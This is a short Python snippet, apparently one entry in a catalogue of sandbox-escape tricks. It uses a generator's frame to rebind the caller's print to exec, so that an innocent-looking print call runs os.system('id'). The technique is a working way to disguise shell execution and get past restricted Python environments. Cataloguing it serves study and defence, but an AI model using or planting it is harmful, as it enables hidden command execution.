# Source: https://github.com/saint2706/Coding-For-MBA/pull/609
# Family: frame
# What: gi_frame.f_back.f_locals writes into the caller's namespace to swap a function
def spy():
    fr = g.gi_frame.f_back
    fr.f_globals["print"] = fr.f_builtins["exec"]
    yield

g = spy()
next(g)
print("import os; os.system('id')")
